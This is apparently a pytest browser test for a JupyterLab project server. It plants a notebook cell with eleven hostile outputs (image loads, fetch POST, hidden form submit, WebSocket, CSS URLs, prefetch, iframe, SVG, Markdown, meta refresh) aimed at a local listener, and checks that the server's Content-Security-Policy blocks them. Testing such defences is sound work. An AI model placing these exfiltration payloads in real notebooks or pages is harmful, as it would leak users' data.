"""Hostile outputs in a real project server's JupyterLab cannot send data out of the browser.

A notebook cell displays ten outputs, each trying to reach a listener on a loopback port
this test opened (the browser runs on the host, so it could reach it; the container could
not), plus an eleventh that navigates the page (``<meta http-equiv=refresh>``, which CSP
does not cover; the server makes it inert). With the server's Content-Security-Policy none
gets through. The control runs the same notebook in a browser context that ignores the
page's CSP (Playwright's ``bypass_csp``) and shows that several do, so the test can fail.
The Datasets panel is exercised in the same browser run.
"""

from __future__ import annotations

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest

from tests.fixtures.lab_server import IMAGE_CONFIG  # noqa: F401  (puts haven_lab on the path if not installed)
from haven_hub.settings import parse_settings  # noqa: E402
from haven_lab.policy import CONTENT_SECURITY_POLICY  # noqa: E402

from .conftest import SCREENSHOTS, log_in

pytestmark = [pytest.mark.browser, pytest.mark.docker, pytest.mark.usefixtures("hub_log_on_failure")]

# The test hub runs its servers as the default spawner.container_uid.
NOTEBOOK_UID = parse_settings({}).spawner.container_uid


class Listener(ThreadingHTTPServer):
    """Records the path of every request that reaches it, answering each with a tiny body."""

    daemon_threads = True

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), _Record)

    @property
    def origin(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _Record(BaseHTTPRequestHandler):
    def _answer(self) -> None:
        self.server.hits.append(self.path.split("?")[0])
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = _answer

    def log_message(self, *args) -> None:  # quiet
        pass


def hostile_cell(origin: str) -> str:
    """Ten ways an output could carry data to another origin, each to its own path."""
    url = f"http://{origin}"
    html = {
        "img": f'<img src="{url}/img">',
        "fetch": f'<script>fetch("{url}/fetch", {{method: "POST", body: "secret"}})</script>',
        "form": (f'<iframe name="haven-sink" style="display:none"></iframe>'
                 f'<form id="haven-form" action="{url}/form" method="post" target="haven-sink">'
                 f'<input name="x" value="secret"></form>'
                 f'<script>document.getElementById("haven-form").submit()</script>'),
        "websocket": f'<script>new WebSocket("ws://{origin}/websocket")</script>',
        "css": f'<div style="width:10px;height:10px;background-image:url({url}/css)"></div>'
               f'<style>.haven-hostile {{ background: url({url}/css-rule) }}</style><p class="haven-hostile">x</p>',
        "prefetch": f'<link rel="prefetch" href="{url}/prefetch"><link rel="preload" as="image" href="{url}/preload">',
        "iframe": f'<iframe src="{url}/iframe"></iframe>',
    }
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
           f'<image href="{url}/svg" xlink:href="{url}/svg-xlink" width="20" height="20"/></svg>')
    lines = ["from IPython.display import HTML, Javascript, Markdown, SVG, display"]
    lines += [f"display(HTML({snippet!r}))" for snippet in html.values()]
    markdown = f"![chart]({url}/markdown)"
    javascript = f'fetch("{url}/javascript")'
    lines += [
        f"display(Markdown({markdown!r}))",
        f"display(SVG({svg!r}))",
        f"display(Javascript({javascript!r}))",
        "print('hostile outputs planted')",
        f"display(HTML({f'<meta http-equiv=refresh content=1;url={url}/meta-refresh>'!r}))",
    ]
    return "\n".join(lines)


@pytest.fixture
def listener():
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def alpha_server(haven_hub):
    haven_hub.spawn("ada", "alpha")
    yield haven_hub.settings.hub.data_dir / "projects" / "alpha" / "workspace"
    haven_hub.stop("ada", "alpha")


def plant_notebook(workspace: Path, name: str, source: str) -> str:
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(source)]
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    path = workspace / name
    path.write_text(nbformat.writes(notebook))
    os.chown(path, NOTEBOOK_UID, NOTEBOOK_UID)
    return f"workspace/{name}"


def run_notebook(page, hub, path: str) -> None:
    try:
        _run_notebook(page, hub, path)
    except Exception:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / f"csp-failed-{Path(path).stem}.png"))
        raise


def _run_notebook(page, hub, path: str) -> None:
    # ?reset: only this notebook open, whatever the last session left in the layout.
    page.goto(f"{hub.url}/user/ada/alpha/lab/tree/{path}?reset")
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=90_000)
    # A run sent before the kernel is connected can be lost: wait until it is idle.
    page.wait_for_selector('.jp-StatusBar-TextItem:has-text("Idle")', timeout=90_000)
    page.locator(".jp-Notebook .jp-Cell").first.click()
    page.keyboard.press("Shift+Enter")
    page.wait_for_selector('.jp-OutputArea-output:has-text("hostile outputs planted")', timeout=90_000)
    # Give every load, prefetch, form, socket and refresh time to land.
    page.wait_for_timeout(4_000)


def test_hostile_outputs_reach_nothing_under_the_policy_and_something_without_it(
    browser, haven_hub, alpha_server, listener
):
    path = plant_notebook(alpha_server, "hostile.ipynb", hostile_cell(listener.origin))
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)

    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    log_in(page, haven_hub, "ada")
    document = page.goto(f"{haven_hub.url}/user/ada/alpha/lab")
    assert document.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    run_notebook(page, haven_hub, path)
    page.screenshot(path=str(SCREENSHOTS / "csp-hostile-outputs-blocked.png"))
    assert listener.hits == [], f"reached the listener under the policy: {listener.hits}"
    assert violations, "the browser reported no blocked loads: were the outputs rendered at all?"

    # The Datasets panel, in the same run: lists the granted datasets, inserts a query.
    page.locator(".jp-SideBar [data-id='haven-datasets-panel']").click()
    admissions = page.locator(".haven-dataset[data-dataset='admissions']")
    admissions.wait_for(timeout=30_000)
    assert page.locator(".haven-dataset").count() == 2
    admissions.locator("summary").click()
    assert admissions.locator(".haven-columns dt", has_text="patient_id").count() == 1
    page.locator(".jp-Cell").first.click()
    admissions.locator(".haven-insert-snippet").click()
    snippet = 'haven.sql("select * from admissions limit 10").df()'
    page.wait_for_function(f"document.querySelector('.jp-Notebook').textContent.includes({json.dumps(snippet)})",
                           timeout=10_000)
    # And it runs under the policy: the kernel's websocket is same-origin.
    page.locator(".jp-Notebook .jp-Cell", has_text="limit 10").click()
    page.keyboard.press("Shift+Enter")
    page.wait_for_selector(".jp-OutputArea-output table", timeout=60_000)
    assert page.locator(".jp-OutputArea-output table").first.inner_text().count("admission_id") == 1
    page.screenshot(path=str(SCREENSHOTS / "datasets-panel.png"))
    context.close()

    # The control: the same outputs in a browser that ignores the page's policy.
    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    page = context.new_page()
    log_in(page, haven_hub, "ada")
    path = plant_notebook(alpha_server, "hostile-control.ipynb", hostile_cell(listener.origin))
    run_notebook(page, haven_hub, path)
    page.screenshot(path=str(SCREENSHOTS / "csp-control-without-header.png"))
    context.close()
    reached = set(listener.hits)
    print(f"without the policy these reached the listener: {sorted(reached)}")
    assert len(reached & {"/img", "/fetch", "/form", "/websocket", "/css", "/iframe", "/markdown"}) >= 3, (
        "without the policy (nearly) nothing reached the listener either: the test could not fail")
    # Navigation is not CSP's to stop; the server made the <meta> inert in both runs.
    assert "/meta-refresh" not in reached
